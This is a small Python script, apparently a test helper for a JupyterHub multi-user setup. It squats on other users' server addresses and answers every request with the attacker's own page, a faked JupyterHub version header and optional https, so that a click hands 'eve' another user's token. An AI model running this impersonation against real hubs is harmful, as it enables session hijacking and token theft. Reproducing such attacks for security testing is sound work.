"""Listen in the place of another's server: what a student runs to become the teacher.

    python squatter.py KEYS ADDRESS:PORT...

Answers every request with a page of her own, and yes to "are you ready?". With the
student's own keys, KEYS.crt and KEYS.key, it speaks https as the hub's servers do.
"""

import contextlib
import ssl
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

PAGE = b"eve was here"


class Page(BaseHTTPRequestHandler):
    """The page with the click that gives eve a token."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("X-JupyterHub-Version", "6.1.1")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    do_POST = do_HEAD = do_GET


def serve(keys, place):
    """Answer at one place, with the keys if there are any."""
    address, _, port = place.partition(":")
    server = ThreadingHTTPServer((address, int(port)), Page)
    if Path(f"{keys}.key").exists():
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(f"{keys}.crt", f"{keys}.key")
        server.socket = context.wrap_socket(server.socket, server_side=True)
    Thread(target=server.serve_forever).start()


if __name__ == "__main__":
    for place in sys.argv[2:]:
        with contextlib.suppress(OSError):  # her own server is at one of them
            serve(sys.argv[1], place)
    print("listening", flush=True)
